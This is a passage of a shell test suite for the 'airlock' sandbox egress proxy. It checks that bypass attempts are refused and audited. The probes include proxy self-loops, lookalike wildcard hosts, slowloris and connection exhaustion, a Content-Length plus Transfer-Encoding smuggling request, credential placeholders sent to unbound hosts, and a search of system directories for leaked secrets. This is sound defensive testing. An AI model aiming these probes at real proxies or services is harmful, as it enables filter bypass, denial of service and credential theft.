echo "== connect-localhost-3128"; probe send 127.0.0.1 3128 "CONNECT localhost:3128 HTTP/1.1\r\nHost: localhost:3128\r\n\r\n"
echo "== connect-1080"; probe send 127.0.0.1 3128 "CONNECT 127.0.0.1:1080 HTTP/1.1\r\nHost: 127.0.0.1:1080\r\n\r\n"
echo "== forward-15001"; probe send 127.0.0.1 3128 "GET http://127.0.0.1:15001/ HTTP/1.1\r\nHost: 127.0.0.1:15001\r\n\r\n"
echo "== forward-localhost-53"; probe send 127.0.0.1 3128 "GET http://localhost:53/ HTTP/1.1\r\nHost: localhost:53\r\n\r\n"
echo "== socks-3128"; probe socks 127.0.0.1 3128
echo "== socks-localhost-1080"; probe socks localhost 1080
echo "== direct-15001"; probe send 127.0.0.1 15001 "GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
echo "== direct-v6-15001"; probe send ::1 15001 "GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
EOF_
sandbox listeners -- sh listeners.sh "$RUN"
begin "9 CONNECT to the proxy itself (127.0.0.1:3128, localhost:3128, 127.0.0.1:1080) is refused"
expect_section connect-3128 'step=1 status=403 ' "CONNECT 127.0.0.1:3128 was not answered 403"
expect_section connect-localhost-3128 'step=1 status=403 ' "CONNECT localhost:3128 was not answered 403"
expect_section connect-1080 'step=1 status=403 ' "CONNECT 127.0.0.1:1080 was not answered 403"
expect_audit event=egress.decision decision=deny via=http_connect host=127.0.0.1 port=3128 process.exe=/usr/bin/python3.11
expect_audit event=egress.decision decision=deny via=http_connect host=localhost port=3128
expect_audit event=egress.decision decision=deny via=http_connect host=127.0.0.1 port=1080
expect_audit --none decision=allow 'port~^(3128|1080|15001|53)$'
end
begin "9 absolute-form requests to the proxy's ports (15001, localhost:53) are refused"
expect_section forward-15001 'step=1 status=403 ' "http://127.0.0.1:15001/ was not answered 403"
expect_section forward-localhost-53 'step=1 status=403 ' "http://localhost:53/ was not answered 403"
expect_audit event=egress.decision decision=deny host=127.0.0.1 port=15001
expect_audit event=egress.decision decision=deny host=localhost port=53
end
begin "9 SOCKS5 to the HTTP proxy or to itself is refused (reply 2)"
expect_section socks-3128 'reply=2 ' "SOCKS5 127.0.0.1:3128 was not refused"
expect_section socks-localhost-1080 'reply=2 ' "SOCKS5 localhost:1080 was not refused"
expect_audit event=egress.decision decision=deny via=socks5 host=127.0.0.1 port=3128
expect_audit event=egress.decision decision=deny via=socks5 host=localhost port=1080
end
begin "9 connecting straight to the transparent listener (127.0.0.1:15001, [::1]:15001) is refused"
expect_section direct-15001 'step=1 status=- end=(reset|eof|connect-ConnectionResetError)' "127.0.0.1:15001 answered"
expect_section direct-v6-15001 'step=1 status=- end=(reset|eof|connect-ConnectionResetError)' "[::1]:15001 answered"
expect_audit event=egress.decision decision=deny via=transparent port=15001 process.exe=/usr/bin/python3.11
end

# localhost:5432 names the host's 127.0.0.1:5432 and [::1]:5432; the rest of 127/8 on the host is
# other services (a second database on 127.0.0.2, a resolver on 127.0.0.53...).
inner loopback_range << 'EOF_'
timeout 20 python3 - << 'PY'
import socket
for host in ["127.0.0.1", "127.0.0.2", "127.1.2.3"]:
    try:
        s = socket.create_connection((host, 5432), 3)
        s.settimeout(3)
        s.sendall(b"ping")
        print(host, "reply=" + s.recv(16).decode())
    except OSError as error:
        print(host, "error=" + type(error).__name__)
PY
EOF_
sandbox loopback_range -- sh loopback_range.sh "$RUN"
begin "9 localhost:5432 carries 127.0.0.1:5432 only: 127.0.0.2:5432 and 127.1.2.3:5432 never dial those host addresses"
expect_out '^127\.0\.0\.1 reply=echo:ping$' "127.0.0.1:5432 did not reach the host's echo service (control)"
expect_audit event=egress.close address=127.0.0.1:5432
expect_audit --none 'address~^127\.(0\.0\.2|1\.2\.3):5432$'
end

# ---- 10. wildcards: *.cdn.example.test is below cdn.example.test and nothing else ---------------------
inner wildcard << 'EOF_'
for name in cdn.example.test.evil.test evilcdn.example.test cdn.example.test a.cdn.example.test blocked.cdn.example.test; do
  echo "== $name"
  probe dns "$name" A
  c -o /dev/null -w 'connect=%{http_connect} code=%{http_code}\n' "https://$name/wc-$RUN"
done
EOF_
mark_logs
sandbox wildcard -- sh wildcard.sh "$RUN"
for name in cdn.example.test.evil.test evilcdn.example.test cdn.example.test; do
  begin "10 *.cdn.example.test does not match $name: NXDOMAIN, 403, no upstream query"
  expect_section "$name" '^rcode=NXDOMAIN' "DNS did not answer NXDOMAIN"
  expect_section "$name" 'connect=403' "CONNECT was not answered 403"
  expect_audit event=egress.decision decision=deny via=dns host="$name" 'reason~no rule'
  expect_audit event=egress.decision decision=deny via=http_connect host="$name" port=443 'reason~no rule' rule= process.exe=/usr/bin/curl
  expect_not_log dnsmasq "query\\[[A-Z]+\\] ${name//./\\.} " "the name was asked upstream"
  end
done
begin "10 a.cdn.example.test matches *.cdn.example.test: resolved and served"
expect_section a.cdn.example.test '^rcode=NOERROR answers=198\.51\.100\.10' "DNS did not resolve it"
expect_section a.cdn.example.test 'connect=200 code=200' "the request was not served"
expect_audit event=egress.decision decision=allow via=http_connect host=a.cdn.example.test 'rule=*.cdn.example.test:443'
expect_log origin "wc-$RUN" "the request did not reach the origin"
end
begin "10 blocked.cdn.example.test: the deny rule wins over the wildcard"
expect_section blocked.cdn.example.test '^rcode=NXDOMAIN' "DNS did not answer NXDOMAIN"
expect_section blocked.cdn.example.test 'connect=403' "CONNECT was not answered 403"
expect_audit event=egress.decision decision=deny via=http_connect host=blocked.cdn.example.test 'reason~denied by rule' rule=blocked.cdn.example.test:443
expect_not_log dnsmasq 'query\[[A-Z]+\] blocked\.cdn\.example\.test' "the denied name was asked upstream"
end

# ---- 11. slowloris, never-reading clients, hanging upstreams, many idle connections ------------------
fd_count() { find "/proc/$1/fd" -mindepth 1 2> /dev/null | wc -l; }
socket_count() { find "/proc/$1/fd" -lname 'socket:*' 2> /dev/null | wc -l; }
pipe_count() { find "/proc/$1/fd" -lname 'pipe:*' 2> /dev/null | wc -l; }
wait_phase() { # wait_phase NAME SECONDS
  local deadline=$((SECONDS + $2))
  while [ "$(cat "$workspace/stress.phase" 2> /dev/null)" != "$1" ]; do
    [ "$SECONDS" -lt "$deadline" ] || return 1
    kill -0 "$stress_pid" 2> /dev/null || return 1
    sleep 0.1
  done
}
begin "11 500 idle connections, slowloris, a never-reading client and a hanging upstream: the proxy stays fast and frees everything"
rm -f "$workspace"/stress.phase "$workspace"/stress.result "$workspace"/stress.go*
audit="$audits/stress.jsonl"
launcher=()
[ "$MODE" = nobody ] && launcher=(setpriv --reuid=65534 --regid=65534 --clear-groups --)
# exec all the way down: $! is the airlock process itself (the supervisor whose fds are counted)
(cd "$workspace" && exec "${launcher[@]}" env -i PATH=/usr/bin:/bin HOME="$scratch/home" LANG=C.UTF-8 \
  "$AIRLOCK" run --policy "$POLICY" --audit "$audit" -- timeout 150 python3 stress.py 250 250 \
  > "$scratch/stress.out" 2>&1 < /dev/null) &
stress_pid=$!
fd_base=0 fd_loaded=0 fd_after=0 sockets_base=0 sockets_after=0 pipes_base=0 pipes_after=0
if wait_phase baseline 30; then
  fd_base=$(fd_count "$stress_pid") sockets_base=$(socket_count "$stress_pid") pipes_base=$(pipe_count "$stress_pid")
  touch "$workspace/stress.go1"
  if wait_phase loaded 90; then
    fd_loaded=$(fd_count "$stress_pid")
    touch "$workspace/stress.go2"
    if wait_phase closed 90; then
      for _ in $(seq 1 50); do
        fd_after=$(fd_count "$stress_pid") sockets_after=$(socket_count "$stress_pid") pipes_after=$(pipe_count "$stress_pid")
        [ "$sockets_after" -le $((sockets_base + 2)) ] && [ $((fd_after - sockets_after - pipes_after)) -le $((fd_base - sockets_base - pipes_base + 2)) ] && break
        sleep 0.2
      done
    else problem "the load never finished: $(tr '\n' ' ' < "$workspace/stress.result" 2> /dev/null)"; fi
  else problem "the connections were never all open: $(tr '\n' ' ' < "$workspace/stress.result" 2> /dev/null)"; fi
else problem "the stress client never started: $(tail -5 "$scratch/stress.out")"; fi
touch "$workspace/stress.go3"
for _ in $(seq 1 100); do kill -0 "$stress_pid" 2> /dev/null || break; sleep 0.1; done
kill -0 "$stress_pid" 2> /dev/null && { problem "airlock did not exit"; kill "$stress_pid"; }
wait "$stress_pid" 2> /dev/null
out=$(cat "$workspace/stress.result" 2> /dev/null)
echo "# fds of the airlock process: baseline $fd_base ($sockets_base sockets, $pipes_base pipe ends), loaded $fd_loaded, after close $fd_after ($sockets_after sockets, $pipes_after pipe ends)"
[ "$fd_loaded" -ge $((fd_base + 500)) ] || problem "the supervisor never held the 500 connections (fds $fd_base -> $fd_loaded): the measurement proves nothing"
# Sockets and everything else must come back; idle splice pipes may stay, up to the pool's bound
# (src/egress/pipe_pool.h keeps at most 256 pipes: 512 descriptors).
[ "$fd_after" -gt 0 ] && [ "$sockets_after" -le $((sockets_base + 2)) ] || \
  problem "sockets did not return to the baseline ($sockets_base -> $sockets_after; all fds $fd_base -> $fd_loaded -> $fd_after)"
[ $((fd_after - sockets_after - pipes_after)) -le $((fd_base - sockets_base - pipes_base + 2)) ] ||
  problem "descriptors other than sockets and pipes did not return to the baseline ($fd_base -> $fd_after)"
[ "$pipes_after" -le $((pipes_base + 512)) ] || problem "more pipes stayed open than the pool keeps ($pipes_base -> $pipes_after)"
expect_out '^tunnels=250$' "not every idle tunnel was established"
expect_out '^normal0=200 seconds=(0|1)\.' "a normal request through the proxy took 2 s or more, or failed"
expect_out '^normal1=200 seconds=(0|1)\.' "a normal transparent request took 2 s or more, or failed"
expect_out '^slowloris=(eof|reset|answered HTTP/1.1 408.*) after=([0-9]|1[0-5])\.' "the slowloris client was not cut within 15 s"
expect_audit event=egress.decision decision=deny via=http_connect 'reason~no complete request within' process.exe=/usr/bin/python3.11
expect_audit event=egress.close host=api.example.test 'bytes_down~^[0-9]+$'
end
tcp_allowed=$(jq -s '[.[] | select(.event == "egress.decision" and .decision == "allow" and .via != "dns")] | length' "$audit" 2> /dev/null)
tcp_closed=$(jq -s '[.[] | select(.event == "egress.close")] | length' "$audit" 2> /dev/null)
begin "11 every allowed connection of the stress run has its egress.close event"
[ "${tcp_allowed:-0}" -ge 250 ] || problem "only ${tcp_allowed:-0} allowed connections were audited"
[ "${tcp_allowed:-0}" = "${tcp_closed:-x}" ] || problem "$tcp_allowed allowed connections but $tcp_closed close events"
end

# A client that sends its request and closes at once (FIN; its socket is gone). The origin answers
# in two parts 0.5 s apart: the first part draws an RST from the client's kernel, so the proxy's
# write of the second part fails with EPIPE. That must cost this one connection, never airlock
# (whose death takes the sandbox and the rest of its audit log with it).
inner vanish << 'EOF_'
via=$2
timeout 10 python3 - "$via" << 'PY'
import socket, sys, time
via = sys.argv[1]
s = socket.create_connection(("127.0.0.1", 1080 if via == "socks" else 3128), 5)
if via == "tunnel":
    s.sendall(b"CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n")
    s.recv(4096)
elif via == "socks":
    s.sendall(b"\x05\x01\x00"); s.recv(2)
    s.sendall(b"\x05\x01\x00\x03\x10api.example.test\x00\x50"); s.recv(10)
target = b"http://api.example.test/drip" if via == "forward" else b"/drip"
s.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
s.close()
time.sleep(1.5)
PY
echo "alive after the client vanished"
EOF_
for via in forward tunnel socks; do
  begin "11 a client that closes right after its request ($via) does not kill airlock (EPIPE/SIGPIPE)"
  sandbox "vanish-$via" -- sh vanish.sh "$RUN" "$via"
  expect_status 0 "the sandbox did not finish normally"
  expect_out '^alive after the client vanished$' "the sandbox was killed before its end"
  expect_audit event=sandbox.exit exit_code=0
  expect_audit event=egress.close host=api.example.test
  end
done

CAP_POLICY=$(policy cap 'version: 1
name: bypass-cap
network:
  mode: allowlist
  allow: [api.example.test:80]
  dns_upstream: 127.0.0.1:5353
  max_connections: 5
')
inner cap << 'EOF_'
timeout 30 python3 - "$RUN" << 'PY'
import socket, struct, sys
def tunnel():
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(b"CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n")
    return s, s.recv(4096).split(b"\r\n")[0].decode()
held = [tunnel() for _ in range(5)]
print("held", sum(status.endswith("200 Connection established") for _, status in held))
print("sixth", tunnel()[1])
s = socket.create_connection(("127.0.0.1", 1080), 5)
s.settimeout(3)
try:
    s.sendall(b"\x05\x01\x00")
    first = s.recv(2)
    if first == b"\x05\x00":  # RFC 1928: method selection, then the request and its reply
        s.sendall(b"\x05\x01\x00\x03\x10api.example.test\x00\x50")
        print("socks reply", s.recv(10)[1])
    else:  # airlock today answers the greeting with the request's reply (05 01 ...) at once
        print("socks early", first.hex())
except (OSError, IndexError) as error:
    print("socks", type(error).__name__)
socket.getaddrinfo("api.example.test", 80)
try:
    s = socket.create_connection(("198.51.100.10", 80), 5)
    s.settimeout(3)
    s.sendall(b"GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    print("transparent", "answered" if s.recv(100) else "eof")
except ConnectionResetError:
    print("transparent reset")
except OSError as error:
    print("transparent", type(error).__name__)
held[0][0].close()
import time; time.sleep(0.5)
print("after-close", tunnel()[1])
PY
EOF_
sandbox cap --policy "$CAP_POLICY" -- sh cap.sh "$RUN"
begin "11 max_connections: 5 — the 6th connection is refused (503, SOCKS 1, RST) and a freed slot is reused"
expect_out '^held 5$' "five tunnels were not established"
expect_out '^sixth HTTP/1.1 503' "the 6th CONNECT was not answered 503"
expect_out '^socks (reply 1|early 0501)$' "SOCKS5 was not refused with general failure (1)"
expect_out '^transparent (reset|eof)$' "the transparent connection was not reset"
expect_out '^after-close HTTP/1.1 200' "a slot freed by a closed tunnel was not reused"
expect_audit event=egress.decision decision=deny via=http_connect 'reason~max_connections'
expect_audit event=egress.decision decision=deny via=socks5 'reason~max_connections'
expect_audit event=egress.decision decision=deny via=transparent 'reason~max_connections'
end

# ---- 12-15. credentials: the real value stays in the proxy ---------------------------------------------
# Three credentials, their values only in the caller's environment: KEY for api.example.test,
# OTHER for other.example.test (so that host is intercepted too), ONCE with max_uses 1, SHORT with
# a 2 s ttl. The origin's default page echoes the request head it received.
REAL_KEY="sk-test-real-$RUN-0123456789abcdefghijklmnop"
REAL_OTHER="sk-other-real-$RUN-0123456789abcdefghijklmno"
REAL_ONCE="sk-once-real-$RUN-0123456789abcdefghijklmnop"
REAL_SHORT="sk-short-real-$RUN-0123456789abcdefghijklmno"
CRED_POLICY=$(policy credentials "version: 1
name: bypass-credentials
network:
  mode: allowlist
  allow: [api.example.test:443, api.example.test:80, other.example.test:443, a.cdn.example.test:443]
  dns_upstream: 127.0.0.1:5353
  upstream_ca: $WORLD_STATE/ca.crt
credentials:
  - {name: KEY, from: env:KEY, hosts: [api.example.test]}
  - {name: OTHER, from: env:OTHER, hosts: [other.example.test]}
  - {name: ONCE, from: env:ONCE, hosts: [api.example.test], max_uses: 1}
  - {name: SHORT, from: env:SHORT, hosts: [api.example.test], ttl: 2s}
")
inner credentials << 'EOF_'
i() { timeout 10 curl -sS --max-time 8 --noproxy '*' "$@"; }  # transparent, system bundle
echo "== env"; printenv KEY
echo "== bound"; i -H "x-api-key: $KEY" "https://api.example.test/cr1-$RUN?key=$KEY"
echo "== bound-proxy"; timeout 10 curl -sS --max-time 8 -H "Authorization: Bearer $KEY" "https://api.example.test/cr2-$RUN"
echo "== unbound"; i -sS -i -H "x-api-key: $KEY" "https://other.example.test/cr3-$RUN"; echo "exit=$?"
echo "== plain"; timeout 10 curl -sS -i --max-time 8 -H "x-api-key: $KEY" "http://api.example.test/cr4-$RUN"; echo "exit=$?"
echo "== plain-transparent"; i -i -H "x-api-key: $KEY" "http://api.example.test/cr5-$RUN"; echo "exit=$?"
echo "== once-1"; i -o /dev/null -w 'code=%{http_code}\n' -H "x-api-key: $ONCE" "https://api.example.test/cr6-$RUN"
echo "== once-2"; i -i -H "x-api-key: $ONCE" "https://api.example.test/cr7-$RUN" | head -2
sleep 2.5
echo "== short"; i -i -H "x-api-key: $SHORT" "https://api.example.test/cr8-$RUN" | head -2
issuer() { echo | timeout 10 openssl s_client -connect "$1:443" -servername "$1" 2> /dev/null | openssl x509 -noout -issuer; }
echo "== not-bound-tls"; issuer a.cdn.example.test
echo "== bound-tls"; issuer api.example.test
echo "== smuggle"; printf 'POST /cr9-%s HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX' "$RUN" | timeout 10 openssl s_client -quiet -connect api.example.test:443 -servername api.example.test 2>/dev/null | head -1; echo "done"
echo "== second-host"; printf 'GET /cr10-%s HTTP/1.1\r\nHost: api.example.test\r\n\r\n' "$RUN" > two.txt; printf 'GET /cr11-%s HTTP/1.1\r\nHost: other.example.test\r\nx-api-key: %s\r\n\r\n' "$RUN" "$KEY" >> two.txt
timeout 10 openssl s_client -quiet -connect api.example.test:443 -servername api.example.test < two.txt 2>/dev/null | head -1; echo "done"
echo "== stream"; timeout 20 python3 - "$KEY" << 'PY'
import socket, ssl, sys, time
# /drip answers half its body at once and half 0.5 s later: through interception the first half
# must arrive before the second is sent (responses are relayed as they come, not buffered).
context = ssl.create_default_context()
with socket.create_connection(("api.example.test", 443), 8) as raw:
    with context.wrap_socket(raw, server_hostname="api.example.test") as tls:
        tls.sendall(b"GET /drip HTTP/1.1\r\nHost: api.example.test\r\nx-api-key: " + sys.argv[1].encode() + b"\r\n\r\n")
        start = time.monotonic(); got = b""; first = None
        while len(got) < 2000 + 40:
            chunk = tls.recv(65536)
            if not chunk:
                break
            got += chunk
            if first is None and b"\r\n\r\n" in got and len(got.split(b"\r\n\r\n", 1)[1]) >= 1000:
                first = time.monotonic() - start
        total = time.monotonic() - start
print(f"first-half={first:.3f} total={total:.3f}")
PY
echo "== files"; grep -rls -- "-real-$RUN" /etc /tmp /run "$HOME" . 2>/dev/null | head -3; echo "searched"
EOF_
mark_logs
SANDBOX_ENV=(KEY="$REAL_KEY" OTHER="$REAL_OTHER" ONCE="$REAL_ONCE" SHORT="$REAL_SHORT")
sandbox credentials --policy "$CRED_POLICY" -- sh credentials.sh "$RUN"
SANDBOX_ENV=()
begin "13 the sandbox sees a placeholder of the same shape, and the origin the real value"
expect_section env "^sk-test-real-[A-Za-z0-9]{30}" "the variable does not keep the value's prefix and length"
expect_not_out "real-$RUN-0123456789" "a real value appears inside the sandbox (output)"
expect_log origin "cr1-$RUN\\?key=$REAL_KEY HTTP/1.1.*x-api-key: $REAL_KEY" "the origin did not get the real value in the header and the query"
expect_log origin "cr2-$RUN HTTP/1.1.*Authorization: Bearer $REAL_KEY" "the origin did not get the real value through CONNECT"
expect_audit event=credential.use credential=KEY host=api.example.test method=GET path=/cr1-$RUN
expect_audit event=credential.use credential=KEY host=api.example.test path=/cr2-$RUN
expect_audit event=sandbox.start 'credentials~KEY'
end
begin "13 a response that echoes the request head carries the placeholder back, never the value"
expect_section bound "x-api-key: sk-test-real-[A-Za-z0-9]{30}" "the echo lost the header"
expect_section bound "origin https received" "the echo did not arrive"
end
begin "12 the placeholder sent to a host it is not bound to is refused (403) and audited with the process"
expect_section unbound "^HTTP/1.1 403" "not answered 403"
expect_section unbound "X-Airlock-Reason: .*not bound" "no reason"
expect_not_log origin "cr3-$RUN" "the request reached the origin"
expect_audit event=credential.misuse credential=KEY host=other.example.test process.exe=/usr/bin/curl
end
begin "12 the placeholder in plain HTTP (proxy and transparent) is refused, never substituted"
expect_section plain "^HTTP/1.1 403" "absolute-form through the proxy not answered 403"
expect_section plain-transparent "^HTTP/1.1 403" "transparent plain HTTP not answered 403"
expect_not_log origin "cr[45]-$RUN" "a request reached the origin"
expect_audit --count 2 event=credential.misuse credential=KEY host=api.example.test 'reason~does not re-originate'
end
begin "15 max_uses 1: the second use is refused and audited as expired"
expect_section once-1 "code=200" "the first use failed"
expect_section once-2 "^HTTP/1.1 403" "the second use was not refused"
expect_not_log origin "cr7-$RUN" "the second use reached the origin"
expect_audit event=credential.expired credential=ONCE 'reason~max_uses'
end
begin "15 ttl 2s: a use after it is refused and audited as expired"
expect_section short "^HTTP/1.1 403" "the expired placeholder was not refused"
expect_not_log origin "cr8-$RUN" "the expired use reached the origin"
expect_audit event=credential.expired credential=SHORT 'reason~ttl'
end
begin "14 only bound hosts are intercepted: another host's certificate is its own"
expect_section not-bound-tls "airlock bypass test CA" "a.cdn.example.test was intercepted"
expect_section bound-tls "airlock run CA" "api.example.test was not intercepted by the run CA"
end
begin "14 inside an intercepted connection: smuggling (CL+TE) and a second Host are refused"
expect_not_log origin "cr9-$RUN" "the smuggled request reached the origin"
expect_not_log origin "cr1[01]-$RUN" "a pipelined request with another Host reached the origin"
expect_audit event=egress.decision decision=deny host=api.example.test 'reason~Content-Length together with Transfer-Encoding'
expect_audit event=egress.decision decision=deny host=api.example.test 'reason~other.example.test:443 on a connection allowed for another destination'
end
begin "13 an intercepted response streams: the first half arrives before the origin sends the second"
expect_section stream "first-half=0\\.[0-3][0-9]* total=(0\\.[5-9]|[1-9])" "the response was held back until it was complete"
end
begin "13 no file the sandbox can see, no audit line and no stderr line holds a real value"
expect_section files "^searched$" "the search did not run"
expect_not_out "^\\./|^/(etc|tmp|run)" "a file inside holds a real value"
if grep -q -- "-real-$RUN-0123" "$audit"; then problem "the audit log holds a real value"; fi
end

# airlock revoke: a session with the same credentials; KEY works, is revoked from the host, then
# its placeholder is refused (ONCE, not revoked, still works); a name it does not have is an error.
revoke_session="revoke-$RUN"
revoke_audit="$audits/revoke.jsonl"
SANDBOX_ENV=(KEY="$REAL_KEY" OTHER="$REAL_OTHER" ONCE="$REAL_ONCE" SHORT="$REAL_SHORT")
(cd "$workspace" && as_user_env timeout 30 "$AIRLOCK" session start --name "$revoke_session" \
  --audit "$revoke_audit" --policy "$CRED_POLICY" > /dev/null 2>&1 < /dev/null)
SANDBOX_ENV=()
revoke_use() { # revoke_use PATH VARIABLE: a request with that credential's placeholder, inside
  as_user_env timeout 20 "$AIRLOCK" exec "$revoke_session" -- sh -c \
    "curl -sS -i --max-time 8 --noproxy '*' -H \"x-api-key: \$$2\" https://api.example.test/$1 | head -1" 2>&1
}
mark_logs
out="== before
$(revoke_use "rv1-$RUN" KEY)
== revoke
$(as_user_env "$AIRLOCK" revoke "$revoke_session" KEY 2>&1; echo "exit=$?")
== after
$(revoke_use "rv2-$RUN" KEY)
== other
$(revoke_use "rv3-$RUN" ONCE)
== unknown
$(as_user_env "$AIRLOCK" revoke "$revoke_session" NOPE 2>&1; echo "exit=$?")"
as_user_env "$AIRLOCK" stop --grace 2s "$revoke_session" > /dev/null 2>&1
audit=$revoke_audit
begin "15 airlock revoke: the placeholder is refused from that moment; the revocation is audited"
expect_section before "^HTTP/1.1 200" "the credential did not work before the revocation"
expect_section revoke "KEY revoked in $revoke_session" "revoke did not confirm"
expect_section revoke "^exit=0$" "revoke failed"
expect_section after "^HTTP/1.1 403" "the revoked placeholder was not refused"
expect_not_log origin "rv2-$RUN" "the revoked use reached the origin"
expect_section other "^HTTP/1.1 200" "another credential stopped working"
expect_section unknown "no credential NOPE \\(it has: KEY, OTHER, ONCE, SHORT\\)" "an unknown name is not named"
expect_section unknown "^exit=1$" "an unknown name did not fail"
expect_audit event=credential.revoke credential=KEY decision=allow
expect_audit event=credential.revoke credential=NOPE decision=error
expect_audit event=credential.expired credential=KEY 'reason~revoked'
expect_audit event=credential.use credential=KEY path=/rv1-$RUN
expect_audit --none event=credential.use credential=KEY path=/rv2-$RUN
end

# ---- 16. mTLS: the client key stays outside, the server is verified --------------------------------
# A KMS stand-in on the host's loopback that insists on a client certificate (s_server -Verify 1),
# with a CA of its own; the sandbox reaches it as localhost:5436 in plain TCP and in TLS.
kms="$scratch/kms"
mkdir -p "$kms"
make_cert() { # make_cert NAME SUBJECT EXTENSIONS
  openssl req -newkey rsa:2048 -nodes -keyout "$kms/$1.key" -out "$kms/$1.csr" -subj "/CN=$2" 2> /dev/null &&
    printf '%s\n' "$3" > "$kms/$1.ext" &&
    openssl x509 -req -in "$kms/$1.csr" -CA "$kms/ca.crt" -CAkey "$kms/ca.key" -CAcreateserial \
      -out "$kms/$1.crt" -days 2 -extfile "$kms/$1.ext" 2> /dev/null
}
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$kms/ca.key" -out "$kms/ca.crt" -days 2 -subj "/CN=kms test CA" 2> /dev/null
make_cert server localhost "subjectAltName=DNS:localhost"
make_cert client agent "extendedKeyUsage=clientAuth"
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$kms/other-ca.key" -out "$kms/other-ca.crt" -days 2 -subj "/CN=another CA" 2> /dev/null
chmod 0644 "$kms"/*.crt
chmod 0600 "$kms"/*.key
# The key belongs to whoever runs airlock: only airlock (outside) reads it.
[ "$MODE" = nobody ] && chown 65534:65534 "$kms/client.key"
setsid openssl s_server -accept 127.0.0.1:5436 -cert "$kms/server.crt" -key "$kms/server.key" \
  -CAfile "$kms/ca.crt" -Verify 1 -verify_return_error -www > "$kms/server.log" 2>&1 < /dev/null &
kms_pid=$!
for _ in $(seq 1 50); do (exec 3<> /dev/tcp/127.0.0.1/5436) 2> /dev/null && break; sleep 0.1; done
mtls_policy() { # mtls_policy NAME CA
  policy "$1" "version: 1
name: bypass-mtls
network:
  mode: allowlist
  allow: [\"localhost:5436\"]
credentials:
  - {name: kms, type: mtls, host: \"localhost:5436\", cert: $kms/client.crt, key: $kms/client.key, ca: $2}
"
}
inner mtls << 'EOF_'
echo "== direct"; printf 'GET / HTTP/1.0\r\n\r\n' | timeout 10 python3 -c '
import socket, sys
s = socket.create_connection(("127.0.0.1", 5436), 5); s.sendall(sys.stdin.buffer.read()); data = b""
while chunk := s.recv(65536): data += chunk
print(data.split(b"\r\n")[0].decode())'
echo "== tls"; timeout 10 curl -sS https://localhost:5436/ -o /dev/null -w 'code=%{http_code}\n'
echo "== key"; cat "$2" 2>&1 | head -1
EOF_
# Before the sandbox: the stand-in refuses a client without the certificate.
begin "16 the KMS stand-in refuses a client without a certificate (control, outside)"
if printf 'GET / HTTP/1.0\r\n\r\n' | timeout 5 openssl s_client -quiet -connect 127.0.0.1:5436 -CAfile "$kms/ca.crt" 2>&1 | grep -q '^HTTP/1.0 200'; then
  problem "the stand-in answered a client without a certificate"
fi
end
chmod 0755 "$kms"
sandbox mtls --policy "$(mtls_policy mtls "$kms/ca.crt")" -- sh mtls.sh "$RUN" "$kms/client.key"
begin "16 mTLS: plain TCP and TLS from inside reach the KMS with airlock's client certificate"
expect_section direct '^HTTP/1.0 200' "plain TCP did not get through"
expect_section tls '^code=200' "TLS (terminated with the run CA) did not get through"
expect_audit --count 2 event=egress.close host=localhost port=5436 intercepted=true
end
begin "16 mTLS: the client key is not readable inside"
expect_not_out "BEGIN (RSA |EC )?PRIVATE KEY" "the key was readable inside the sandbox"
end
sandbox mtls-wrong-ca --policy "$(mtls_policy mtls-wrong-ca "$kms/other-ca.crt")" -- sh mtls.sh "$RUN" "$kms/client.key"
begin "16 mTLS: a KMS that the credential's ca does not vouch for is not talked to"
expect_not_out '^HTTP/1.0 200|code=200' "airlock talked to a server its ca does not verify"
expect_audit event=egress.close host=localhost port=5436 'ended_by~certificate verification failed'
end
kill "$kms_pid" 2> /dev/null

echo "# run time $(( $(date +%s) - started )) s"
finish
